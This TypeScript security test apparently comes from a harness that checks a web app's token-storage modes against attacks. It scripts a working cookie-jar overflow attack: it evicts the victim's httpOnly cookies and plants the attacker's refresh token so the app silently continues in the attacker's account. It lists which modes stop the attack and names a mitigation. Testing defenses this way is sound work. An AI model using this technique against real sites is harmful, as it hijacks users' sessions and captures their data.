/** Puts the refresh token of the attacker's own session into the victim's cookie jar, so that the next renewal makes the app work in the attacker's account. */
import { attack } from './support/attack.js';
import { askFromOutside } from './support/attacker.js';
import { notStopped, stopped } from './support/outcome.js';

const NO_COOKIE = stopped('the refresh token is in no cookie');

attack('Fix the cookie with the refresh token, so that the app goes on in the attacker’s account', {
  engines: 'all',
  expected: {
    indexeddb: NO_COOKIE,
    memory: notStopped('a jar that overflows forgets httpOnly cookies, and then takes others of the same name; a name with the prefix `__Host-Http-` is safe'),
    sealed: NO_COOKIE,
    'sealed + proof': stopped('the attacker’s session is bound to another key than the worker’s'),
  },
  steps: async ({ tab, site, endpoints, ask }) => {
    const headers = { 'Content-Type': 'application/json' };
    const { headers: answered } = await askFromOutside(`${site.origin}/cookie/auth/login`, { method: 'POST', headers, body: JSON.stringify({ username: 'grace', password: 'hopper' }) });
    const cookie = [answered['set-cookie'] ?? []].flat()[0]?.split(';')[0] ?? 'refresh_token=of-the-attacker';
    await tab.run(
      ([planted, path]) => {
        const many = Array.from({ length: 800 }, (_, index) => `overflow${String(index)}`);
        for (const name of many) document.cookie = `${name}=x; path=${path}`;
        // On a longer path too: that cookie is sent first.
        for (const place of [path.replace(/\/refresh$/, ''), path]) document.cookie = `${planted}; path=${place}; samesite=strict`;
        for (const name of many) document.cookie = `${name}=; path=${path}; max-age=0`;
      },
      [cookie, endpoints.refresh] as const,
    );
    site.backend.expireAccessTokens();
    return ask();
  },
  succeeded: (answer) => JSON.stringify(answer).includes('grace'),
});
